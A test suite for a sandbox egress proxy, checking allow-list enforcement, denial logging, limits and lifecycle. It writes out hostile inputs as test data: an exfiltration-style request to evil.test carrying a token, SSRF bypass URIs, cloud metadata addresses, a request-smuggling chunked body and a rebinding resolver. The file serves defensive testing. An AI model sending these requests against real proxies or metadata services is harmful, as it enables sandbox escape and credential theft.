/**
 * The egress proxy against real sockets, all on 127.0.0.1. Requests are written byte for byte
 * (raw sockets, not an HTTP client) so that odd request lines reach the proxy as an attacker
 * would send them. Names are resolved by an injected resolver that knows only the test's names
 * and counts its calls; the upstream stand-in records everything that reaches it.
 */
import { once } from "node:events";
import { readFile } from "node:fs/promises";
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { type AddressInfo, connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { hostLocalCheck } from "./allow-rules.js";
import {
  type Denial,
  type EgressProxy,
  type EgressProxyOptions,
  type ResolvedAddress,
  startEgressProxy,
} from "./egress-proxy.js";

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
}

let upstream: Server;
let upstreamPort: number;
let seen: Seen[];

beforeEach(async () => {
  seen = [];
  upstream = createServer((req, res) => {
    seen.push({ method: req.method ?? "", url: req.url ?? "", headers: req.headers });
    res.end(`upstream says hi to ${req.url}`);
  });
  upstream.listen(0, "127.0.0.1");
  await once(upstream, "listening");
  upstreamPort = (upstream.address() as AddressInfo).port;
});

afterEach(async () => {
  upstream.closeAllConnections();
  await new Promise((resolve) => upstream.close(resolve));
});

/** A resolver that knows a few names, all on loopback, and remembers what it was asked. */
function fakeResolver(names: Record<string, string[]> = {}) {
  const asked: string[] = [];
  const resolve = async (name: string): Promise<ResolvedAddress[]> => {
    asked.push(name);
    const addresses = names[name];
    if (!addresses) throw Object.assign(new Error(`ENOTFOUND ${name}`), { code: "ENOTFOUND" });
    return addresses.map((address) => ({ address, family: address.includes(":") ? 6 : 4 }));
  };
  return { asked, resolve };
}

const proxies: EgressProxy[] = [];
afterEach(async () => {
  await Promise.all(proxies.splice(0).map((proxy) => proxy.close()));
});

/**
 * The upstream stand-in listens on 127.0.0.1 and plays a server elsewhere: to these proxies
 * 127.0.0.1 is not the host's own address. Every other address of this machine still is (127.0.0.2
 * and ::1 stand for the host in the tests below).
 */
const standInHostLocal = (() => {
  const real = hostLocalCheck();
  return (address: string) => address !== "127.0.0.1" && real(address);
})();

async function proxyWith(
  allow: string[],
  names: Record<string, string[]> = {},
  deniedLogPath?: string,
  more: Partial<EgressProxyOptions> = {},
) {
  const resolver = fakeResolver(names);
  const proxy = await startEgressProxy({
    host: "127.0.0.1",
    allow,
    resolve: resolver.resolve,
    isHostLocal: standInHostLocal,
    ...(deniedLogPath ? { deniedLogPath } : {}),
    ...more,
  });
  proxies.push(proxy);
  return { proxy, asked: resolver.asked };
}

interface RawAnswer {
  status: number;
  head: string;
  body: string;
}

/** Send `text` to the proxy as it is and read until the proxy closes (bounded by 5 s). */
async function raw(proxy: EgressProxy, text: string): Promise<RawAnswer> {
  const socket = connect(proxy.port, "127.0.0.1");
  socket.setTimeout(5000, () => socket.destroy(new Error("proxy did not answer within 5 s")));
  socket.write(text);
  const chunks: Buffer[] = [];
  socket.on("data", (chunk: Buffer) => chunks.push(chunk));
  await once(socket, "close");
  return parseAnswer(Buffer.concat(chunks).toString("latin1"));
}

function parseAnswer(text: string): RawAnswer {
  const end = text.indexOf("\r\n\r\n");
  const head = end === -1 ? text : text.slice(0, end);
  return { status: Number(/^HTTP\/1\.1 (\d{3})/.exec(head)?.[1] ?? 0), head, body: text.slice(end + 4) };
}

/** CONNECT, and when the proxy agrees, send one HTTP request through the tunnel. */
async function tunnel(
  proxy: EgressProxy,
  authority: string,
): Promise<{ connect: RawAnswer; inner?: RawAnswer }> {
  const socket = connect(proxy.port, "127.0.0.1");
  socket.setTimeout(5000, () => socket.destroy(new Error("proxy did not answer within 5 s")));
  socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
  const head = await readUntilBlankLine(socket);
  const answer = parseAnswer(head);
  if (answer.status !== 200) {
    const rest: Buffer[] = [];
    socket.on("data", (chunk: Buffer) => rest.push(chunk)).resume();
    await once(socket, "close");
    return { connect: { ...answer, body: Buffer.concat(rest).toString() } };
  }
  socket.write("GET /through-the-tunnel HTTP/1.1\r\nHost: tunnelled\r\nConnection: close\r\n\r\n");
  const chunks: Buffer[] = [];
  socket.on("data", (chunk: Buffer) => chunks.push(chunk)).resume();
  await once(socket, "close");
  return { connect: answer, inner: parseAnswer(Buffer.concat(chunks).toString()) };
}

/** Read up to the end of a response head, leaving anything after it unread on the socket. */
async function readUntilBlankLine(socket: Socket): Promise<string> {
  return new Promise((resolve, reject) => {
    let text = "";
    const onData = (chunk: Buffer) => {
      text += chunk.toString("latin1");
      const end = text.indexOf("\r\n\r\n");
      if (end === -1) return;
      socket.off("data", onData).off("close", onClose).off("error", reject);
      socket.pause();
      const rest = text.slice(end + 4);
      if (rest) socket.unshift(Buffer.from(rest, "latin1"));
      resolve(text.slice(0, end + 4));
    };
    const onClose = () => resolve(text);
    socket.on("data", onData).on("close", onClose).on("error", reject);
  });
}

const get = (target: string, host: string) =>
  `GET ${target} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

describe("egress proxy: what it lets through", () => {
  it("relays plain HTTP to an allowed name, resolving it itself (allowed.test exists in no real DNS)", async () => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
    });
    const answer = await raw(
      proxy,
      get(`http://allowed.test:${upstreamPort}/hello?x=1`, `allowed.test:${upstreamPort}`),
    );
    expect(answer.status).toBe(200);
    expect(answer.body).toBe("upstream says hi to /hello?x=1");
    expect(seen).toMatchObject([
      { method: "GET", url: "/hello?x=1", headers: { host: `allowed.test:${upstreamPort}` } },
    ]);
    expect(asked).toEqual(["allowed.test"]);
    expect(proxy.deniedHosts()).toEqual([]);
  });

  it("tunnels CONNECT to an allowed name", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], { "allowed.test": ["127.0.0.1"] });
    const { connect: answer, inner } = await tunnel(proxy, `allowed.test:${upstreamPort}`);
    expect(answer.status).toBe(200);
    expect(inner?.body).toBe("upstream says hi to /through-the-tunnel");
  });

  it("matches names case-insensitively and with a trailing dot", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], { "allowed.test": ["127.0.0.1"] });
    expect((await tunnel(proxy, `ALLOWED.Test.:${upstreamPort}`)).inner?.status).toBe(200);
  });

  it("lets *.domain reach subdomains at any depth", async () => {
    const { proxy } = await proxyWith(["*.allowed.test", "127.0.0.0/8"], {
      "a.b.allowed.test": ["127.0.0.1"],
    });
    expect((await tunnel(proxy, `a.b.allowed.test:${upstreamPort}`)).inner?.status).toBe(200);
  });

  it("lets a CIDR rule reach an IP address given as such", async () => {
    const { proxy, asked } = await proxyWith(["127.0.0.0/8"]);
    expect((await tunnel(proxy, `127.0.0.1:${upstreamPort}`)).inner?.status).toBe(200);
    const answer = await raw(proxy, get(`http://127.0.0.1:${upstreamPort}/ip`, `127.0.0.1:${upstreamPort}`));
    expect(answer.status).toBe(200);
    expect(asked).toEqual([]);
  });
});

describe("egress proxy: what it refuses", () => {
  it("refuses a name that is not allowed, without resolving it", async () => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], { "evil.test": ["127.0.0.1"] });
    const { connect: answer } = await tunnel(proxy, "evil.test:443");
    expect(answer.status).toBe(403);
    expect(answer.body).toContain("evil.test is not on this bottle's network allow-list");
    const plain = await raw(proxy, get(`http://evil.test:${upstreamPort}/`, `evil.test:${upstreamPort}`));
    expect(plain.status).toBe(403);
    expect(asked).toEqual([]);
    expect(seen).toEqual([]);
    expect(proxy.deniedHosts()).toEqual(["evil.test"]);
  });

  it("refuses a raw IP address when only names are allowed (CONNECT and plain HTTP, IPv4 and IPv6)", async () => {
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
    expect((await tunnel(proxy, `127.0.0.1:${upstreamPort}`)).connect.status).toBe(403);
    expect((await tunnel(proxy, `[::1]:${upstreamPort}`)).connect.status).toBe(403);
    expect((await tunnel(proxy, `[::ffff:127.0.0.1]:${upstreamPort}`)).connect.status).toBe(403);
    expect(
      (await raw(proxy, get(`http://127.0.0.1:${upstreamPort}/`, `127.0.0.1:${upstreamPort}`))).status,
    ).toBe(403);
    expect((await raw(proxy, get(`http://[::1]:${upstreamPort}/`, `[::1]:${upstreamPort}`))).status).toBe(
      403,
    );
    expect(seen).toEqual([]);
    expect(proxy.deniedHosts()).toEqual(["127.0.0.1", "::1", "::ffff:7f00:1"]);
  });

  it("reads IPv4 shorthand in URLs as the address it is, and refuses it in CONNECT lines", async () => {
    const { proxy, asked } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
    const port = upstreamPort;
    for (const host of ["2130706433", "0x7f.0.0.1", "127.1", "0177.0.0.1"]) {
      const answer = await raw(proxy, get(`http://${host}:${port}/`, `127.0.0.1:${port}`));
      expect(answer.status, host).toBe(403);
      expect((await tunnel(proxy, `${host}:${port}`)).connect.status, host).toBe(400);
    }
    expect(proxy.deniedHosts()).toEqual(["127.0.0.1"]);
    expect(asked).toEqual([]);
    expect(seen).toEqual([]);
  });

  it("refuses a Host header that names another host or port than the absolute URI", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], { "allowed.test": ["127.0.0.1"] });
    const target = `http://allowed.test:${upstreamPort}/`;
    for (const host of [
      "evil.test",
      `evil.test:${upstreamPort}`,
      `allowed.test:${upstreamPort + 1}`,
      "allowed.test",
    ]) {
      const answer = await raw(proxy, get(target, host));
      expect(answer.status, host).toBe(400);
      expect(answer.body).toContain("Host header does not match");
    }
    const noHost = await raw(proxy, `GET ${target} HTTP/1.1\r\nConnection: close\r\n\r\n`);
    expect(noHost.status).toBe(400);
    expect(seen).toEqual([]);
  });

  it.each([
    ["user info naming the allowed host", "http://allowed.test@evil.test:PORT/", "evil.test:PORT"],
    ["user info with a port", "http://allowed.test:PORT@evil.test:PORT/", "evil.test:PORT"],
    ["user info matching the Host header", "http://allowed.test@evil.test:PORT/", "allowed.test:PORT"],
  ])("refuses absolute URIs with %s", async (_what, target, host) => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
      "evil.test": ["127.0.0.1"],
    });
    const answer = await raw(
      proxy,
      get(target.replaceAll("PORT", `${upstreamPort}`), host.replaceAll("PORT", `${upstreamPort}`)),
    );
    expect(answer.status).toBe(400);
    expect(seen).toEqual([]);
  });

  it.each([
    ["a fragment hiding the real host", "http://evil.test:PORT#@allowed.test/", "allowed.test:PORT"],
    ["a backslash hiding the real host", "http://evil.test:PORT\\@allowed.test/", "allowed.test:PORT"],
  ])("refuses a URI with %s (Node's HTTP parser already rejects it)", async (_what, target, host) => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
    });
    const answer = await raw(
      proxy,
      get(target.replaceAll("PORT", `${upstreamPort}`), host.replaceAll("PORT", `${upstreamPort}`)),
    );
    expect(answer.status).toBe(400);
    expect(asked).toEqual([]);
    expect(seen).toEqual([]);
  });

  it("checks every request on a kept-alive connection, not just the first", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
      "evil.test": ["127.0.0.1"],
    });
    const port = upstreamPort;
    const socket = connect(proxy.port, "127.0.0.1");
    socket.setTimeout(5000, () => socket.destroy(new Error("proxy did not answer within 5 s")));
    let text = "";
    socket.on("data", (chunk: Buffer) => {
      text += chunk.toString();
    });
    socket.write(`GET http://allowed.test:${port}/first HTTP/1.1\r\nHost: allowed.test:${port}\r\n\r\n`);
    for (let i = 0; i < 100 && !text.includes("hi to /first"); i++)
      await new Promise((r) => setTimeout(r, 20));
    expect(text).toMatch(/^HTTP\/1\.1 200/);
    socket.write(get(`http://evil.test:${port}/second`, `evil.test:${port}`));
    await once(socket, "close");
    expect(text.slice(text.indexOf("hi to /first"))).toContain("HTTP/1.1 403");
    expect(seen.map(({ url }) => url)).toEqual(["/first"]);
  });

  it.each([
    ["a name that only ends like an allowed one", "http://notallowed.test:PORT/", "notallowed.test:PORT"],
    [
      "an allowed name as a subdomain of another",
      "http://allowed.test.evil.test:PORT/",
      "allowed.test.evil.test:PORT",
    ],
    ["upper case and a trailing dot", "http://EVIL.test.:PORT/", "EVIL.test.:PORT"],
  ])("refuses a URI with %s, by the host it really names", async (_what, target, host) => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
    });
    const answer = await raw(
      proxy,
      get(target.replaceAll("PORT", `${upstreamPort}`), host.replaceAll("PORT", `${upstreamPort}`)),
    );
    expect(answer.status).toBe(403);
    expect(proxy.deniedHosts()).toHaveLength(1);
    expect(proxy.deniedHosts()[0]).not.toBe("allowed.test");
    expect(asked).toEqual([]);
    expect(seen).toEqual([]);
  });

  it.each([
    "allowed.test",
    "allowed.test:",
    "allowed.test:0",
    "allowed.test:65536",
    "allowed.test:443:443",
    "allowed.test:+443",
    "allowed.test@evil.test:443",
    "allowed.test:443@evil.test:443",
    "allowed.test:443/path",
    "allowed.test..:443",
    "allowed%2etest:443",
    "[::1%lo]:443",
    "[allowed.test]:443",
    "http://allowed.test:443",
  ])("refuses the CONNECT target %j", async (authority) => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
    });
    const { connect: answer } = await tunnel(proxy, authority);
    expect(answer.status).toBeGreaterThanOrEqual(400);
    expect(answer.status).toBeLessThan(500);
    expect(asked).toEqual([]);
  });

  it("refuses what is not an absolute http:// request", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.0/8"], { "allowed.test": ["127.0.0.1"] });
    for (const target of [
      "/",
      `https://allowed.test:${upstreamPort}/`,
      `ftp://allowed.test:${upstreamPort}/`,
      "http://allowed.test:99999/",
    ]) {
      const answer = await raw(proxy, get(target, `allowed.test:${upstreamPort}`));
      expect(answer.status, target).toBe(400);
    }
    expect(seen).toEqual([]);
  });

  it("refuses the domain itself when only *.domain is allowed", async () => {
    const { proxy, asked } = await proxyWith(["*.allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.1"],
    });
    expect((await tunnel(proxy, `allowed.test:${upstreamPort}`)).connect.status).toBe(403);
    expect(asked).toEqual([]);
  });
});

describe("egress proxy: names and addresses", () => {
  it("never lets a CIDR rule admit a name, so an unlisted name is not even looked up", async () => {
    const { proxy, asked } = await proxyWith(["127.0.0.0/8"], { "evil.test": ["127.0.0.1"] });
    expect((await tunnel(proxy, `evil.test:${upstreamPort}`)).connect.status).toBe(403);
    expect(asked).toEqual([]);
    expect(seen).toEqual([]);
  });

  it("refuses an allowed name that resolves to the host itself, even when a CIDR rule covers that address", async () => {
    const { proxy, asked } = await proxyWith(["allowed.test", "127.0.0.0/8"], {
      "allowed.test": ["127.0.0.2"],
    });
    const { connect: answer } = await tunnel(proxy, `allowed.test:${upstreamPort}`);
    expect(answer.status).toBe(403);
    expect(answer.body).toContain(
      "allowed.test resolves to 127.0.0.2, which is an address of the host itself",
    );
    expect(asked).toEqual(["allowed.test"]);
    expect(seen).toEqual([]);
    expect(proxy.deniedHosts()).toEqual(["allowed.test"]);
  });

  it("refuses the whole name when any of its addresses is the host's own", async () => {
    const { proxy } = await proxyWith(["allowed.test", "127.0.0.1/32"], {
      "allowed.test": ["127.0.0.1", "::1"],
    });
    expect((await tunnel(proxy, `allowed.test:${upstreamPort}`)).connect.status).toBe(403);
    expect(seen).toEqual([]);
  });

  it("answers 502 when an allowed name does not resolve", async () => {
    const { proxy } = await proxyWith(["allowed.test"]);
    const { connect: answer } = await tunnel(proxy, "allowed.test:443");
    expect(answer.status).toBe(502);
    expect(proxy.deniedHosts()).toEqual([]);
  });

  it("resolves once per request and connects to the address it checked", async () => {
    let calls = 0;
    const proxy = await startEgressProxy({
      host: "127.0.0.1",
      allow: ["allowed.test", "127.0.0.1/32"],
      isHostLocal: standInHostLocal,
      // A rebinding resolver: a checked loopback answer first, something else on any later call.
      resolve: async () =>
        calls++ === 0 ? [{ address: "127.0.0.1", family: 4 }] : [{ address: "::1", family: 6 }],
    });
    proxies.push(proxy);
    expect((await tunnel(proxy, `allowed.test:${upstreamPort}`)).inner?.status).toBe(200);
    expect(calls).toBe(1);
  });
});

describe("egress proxy: the denial log", () => {
  it("writes one JSON line per refusal with host, port, time and reason, and nothing of paths or queries", async () => {
    const logPath = join(tmpdir(), `claude-bottle-denied-${process.pid}-${Date.now()}.log`);
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.2"] }, logPath);
    const before = Date.now();
    await raw(proxy, get("http://evil.test/exfil?token=s3cr3t-value", "evil.test"));
    await tunnel(proxy, "other.test:8443");
    await tunnel(proxy, "allowed.test:443");
    await raw(proxy, get("http://allowed.test/", "evil.test"));
    await proxy.close();
    const text = await readFile(logPath, "utf8");
    expect(text).not.toContain("s3cr3t");
    expect(text).not.toContain("exfil");
    const lines = text
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Denial);
    expect(lines).toMatchObject([
      { host: "evil.test", port: 80, method: "HTTP", reason: "not-allowed" },
      { host: "other.test", port: 8443, method: "CONNECT", reason: "not-allowed" },
      {
        host: "allowed.test",
        port: 443,
        method: "CONNECT",
        reason: "host-local",
        detail: "resolves to 127.0.0.2",
      },
      { host: "allowed.test", port: 80, method: "HTTP", reason: "malformed" },
    ]);
    for (const line of lines) expect(Date.parse(line.time)).toBeGreaterThanOrEqual(before - 1000);
    expect(proxy.deniedHosts()).toEqual(["evil.test", "other.test", "allowed.test"]);
  });
});

describe("egress proxy: lifecycle", () => {
  it("fails to start, rather than lose denials, when the log cannot be written", async () => {
    const attempt = startEgressProxy({
      host: "127.0.0.1",
      allow: [],
      deniedLogPath: join(tmpdir(), "no-such-dir", "x.log"),
    });
    await expect(attempt).rejects.toMatchObject({ code: "ENOENT" });
  });

  it("fails to start on an address that is not this machine's", async () => {
    // 192.0.2.1 (TEST-NET-1) is on no interface: listening fails before any packet is sent.
    await expect(startEgressProxy({ host: "192.0.2.1", allow: [] })).rejects.toMatchObject({
      code: "EADDRNOTAVAIL",
    });
  });

  it("cuts open tunnels and stops listening on close", async () => {
    const { proxy } = await proxyWith(["127.0.0.0/8"]);
    const socket = connect(proxy.port, "127.0.0.1");
    socket.write(`CONNECT 127.0.0.1:${upstreamPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
    expect(await readUntilBlankLine(socket)).toMatch(/^HTTP\/1\.1 200/);
    const closed = once(socket, "close");
    socket.resume();
    await proxy.close();
    await closed;
    const again = connect(proxy.port, "127.0.0.1");
    const [error] = (await once(again, "error")) as [NodeJS.ErrnoException];
    expect(error.code).toBe("ECONNREFUSED");
  });
});

describe("egress proxy: the host, metadata and forbidden ranges are never reachable", () => {
  it("refuses the host's own addresses even when a CIDR rule covers them, as IP or by name", async () => {
    const { proxy } = await proxyWith(["127.0.0.0/8", "::1/128", "allowed.test"], {
      "allowed.test": ["127.0.0.2"],
    });
    for (const target of [
      `127.0.0.2:${upstreamPort}`,
      `[::1]:${upstreamPort}`,
      `allowed.test:${upstreamPort}`,
    ]) {
      const { connect: answer } = await tunnel(proxy, target);
      expect(answer.status, target).toBe(403);
      expect(answer.body, target).toContain("an address of the host itself");
    }
    expect(seen).toEqual([]);
  });

  it("refuses cloud metadata addresses in every spelling, whatever rule covers them", async () => {
    const { proxy, asked } = await proxyWith(["0.0.0.0/0", "::/0", "metadata.test"], {
      "metadata.test": ["100.100.100.200"],
    });
    const targets = [
      "169.254.169.254:80",
      "[fd00:ec2::254]:80",
      "[fd20:ce::254]:80",
      "100.100.100.200:80",
      "168.63.129.16:80",
      "192.0.0.192:80",
      "[::ffff:169.254.169.254]:80",
      "[64:ff9b::a9fe:a9fe]:80",
      "[2002:a9fe:a9fe::1]:80",
      "metadata.test:80",
    ];
    for (const target of targets) {
      const { connect: answer } = await tunnel(proxy, target);
      expect(answer.status, target).toBe(403);
      expect(answer.body, target).toContain("metadata");
    }
    const http = await raw(proxy, get("http://169.254.169.254/latest/meta-data/", "169.254.169.254"));
    expect(http.status).toBe(403);
    expect(asked).toEqual(["metadata.test"]);
  });

  it("refuses ranges the backend forbids (the engine's address pools), CIDR rule or not", async () => {
    const { proxy } = await proxyWith(
      ["10.0.0.0/8", "pool.test"],
      { "pool.test": ["10.200.3.4"] },
      undefined,
      {
        forbiddenRanges: ["10.200.0.0/16"],
      },
    );
    for (const target of ["10.200.0.1:443", "pool.test:443", "[::ffff:10.200.9.9]:443"]) {
      const { connect: answer } = await tunnel(proxy, target);
      expect(answer.status, target).toBe(403);
      expect(answer.body, target).toContain("a range this bottle may never reach");
    }
  });

  it("judges against the interfaces as they are now: an address that appears after start-up is refused", async () => {
    let interfaces: ReturnType<typeof import("node:os").networkInterfaces> = {};
    const { proxy } = await proxyWith(["10.0.0.0/8"], {}, undefined, {
      isHostLocal: undefined,
      interfaces: () => interfaces,
    });
    expect((await tunnel(proxy, "127.0.0.1:9")).connect.status).toBe(403);
    interfaces = {
      br0: [
        {
          address: "10.99.0.1",
          netmask: "255.255.0.0",
          family: "IPv4",
          mac: "00:00:00:00:00:00",
          internal: false,
          cidr: "10.99.0.1/16",
        },
      ],
    };
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const { connect: answer } = await tunnel(proxy, "10.99.0.1:9");
    expect(answer.status).toBe(403);
    expect(answer.body).toContain("an address of the host itself");
  });
});

describe("egress proxy: bodies are framed, never smuggled", () => {
  it("refuses GET, HEAD, DELETE, OPTIONS and TRACE with a chunked body, and the upstream sees nothing", async () => {
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
    const smuggled = `GET /smuggled HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\n\r\n`;
    const body = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
    for (const method of ["GET", "HEAD", "DELETE", "OPTIONS", "TRACE"]) {
      const answer = await raw(
        proxy,
        `${method} http://allowed.test:${upstreamPort}/ HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n${body}`,
      );
      expect(answer.status, method).toBe(400);
    }
    expect(seen).toEqual([]);
  });

  it("still relays a chunked POST, framed", async () => {
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] });
    const answer = await raw(
      proxy,
      `POST http://allowed.test:${upstreamPort}/upload HTTP/1.1\r\nHost: allowed.test:${upstreamPort}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
    );
    expect(answer.status).toBe(200);
    expect(seen.map(({ method, url }) => `${method} ${url}`)).toEqual(["POST /upload"]);
  });
});

describe("egress proxy: limits", () => {
  it("closes a tunnel that stays idle longer than the idle timeout", async () => {
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] }, undefined, {
      limits: { idleTimeoutMs: 300 },
    });
    const socket = connect(proxy.port, "127.0.0.1");
    socket.write(`CONNECT allowed.test:${upstreamPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
    expect(await readUntilBlankLine(socket)).toMatch(/^HTTP\/1\.1 200/);
    const started = Date.now();
    socket.resume();
    await once(socket, "close");
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it("closes a connection that never sends a request", async () => {
    const { proxy } = await proxyWith([], {}, undefined, { limits: { idleTimeoutMs: 300 } });
    const socket = connect(proxy.port, "127.0.0.1");
    socket.resume();
    const started = Date.now();
    await once(socket, "close");
    expect(Date.now() - started).toBeLessThan(3000);
  });

  it("refuses tunnels beyond the cap with 503, logs it, and accepts again once one closes", async () => {
    const logPath = join(tmpdir(), `claude-bottle-denied-cap-${process.pid}-${Date.now()}.log`);
    const { proxy } = await proxyWith(["allowed.test"], { "allowed.test": ["127.0.0.1"] }, logPath, {
      limits: { maxTunnels: 2 },
    });
    const open: Socket[] = [];
    for (let i = 0; i < 2; i++) {
      const socket = connect(proxy.port, "127.0.0.1");
      socket.write(`CONNECT allowed.test:${upstreamPort} HTTP/1.1\r\nHost: x\r\n\r\n`);
      expect(await readUntilBlankLine(socket)).toMatch(/^HTTP\/1\.1 200/);
      open.push(socket);
    }
    const third = await tunnel(proxy, `allowed.test:${upstreamPort}`);
    expect(third.connect.status).toBe(503);
    const first = open.shift()!;
    const closed = once(first, "close");
    first.destroy();
    await closed;
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect((await tunnel(proxy, `allowed.test:${upstreamPort}`)).connect.status).toBe(200);
    for (const socket of open) socket.destroy();
    await proxy.close();
    const lines = (await readFile(logPath, "utf8")).trim().split("\n");
    expect(lines.map((line) => (JSON.parse(line) as Denial).reason)).toEqual(["limit"]);
    expect(proxy.deniedHosts()).toEqual([]);
  });

  it("keeps the denial log under its size cap with one rotation", async () => {
    const logPath = join(tmpdir(), `claude-bottle-denied-rot-${process.pid}-${Date.now()}.log`);
    const { proxy } = await proxyWith([], {}, logPath, { limits: { deniedLogMaxBytes: 400 } });
    for (let i = 0; i < 30; i++) await tunnel(proxy, `host-${i}.test:443`);
    await proxy.close();
    const current = await readFile(logPath, "utf8");
    const older = await readFile(`${logPath}.1`, "utf8");
    expect(Buffer.byteLength(current)).toBeLessThanOrEqual(400);
    expect(Buffer.byteLength(older)).toBeLessThanOrEqual(400);
    expect(current).toContain('"host":"host-29.test"');
    expect(older).not.toContain('"host":"host-0.test"');
    for (const line of `${older}${current}`.trim().split("\n")) expect(() => JSON.parse(line)).not.toThrow();
  });

  it("names at most maxDeniedHosts hosts and says how many more", async () => {
    const { proxy } = await proxyWith([], {}, undefined, { limits: { maxDeniedHosts: 3 } });
    for (const name of ["a", "b", "c", "d", "e", "a"]) await tunnel(proxy, `${name}.test:443`);
    expect(proxy.deniedHosts()).toEqual(["a.test", "b.test", "c.test", "and 2 more"]);
  });
});

describe("egress proxy: the denial log is never written through a link", () => {
  it("fails to start when the log's path is a symbolic link, and leaves the link's target alone", async () => {
    const { symlink, writeFile: write, mkdtemp, rm } = await import("node:fs/promises");
    const dir = await mkdtemp(join(tmpdir(), "claude-bottle-denied-link-"));
    try {
      const target = join(dir, "somewhere-else");
      await write(target, "not a log");
      await symlink(target, join(dir, "denied.jsonl"));
      await expect(
        startEgressProxy({ host: "127.0.0.1", allow: [], deniedLogPath: join(dir, "denied.jsonl") }),
      ).rejects.toThrow(/ELOOP|symbolic link/);
      expect(await readFile(target, "utf8")).toBe("not a log");
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
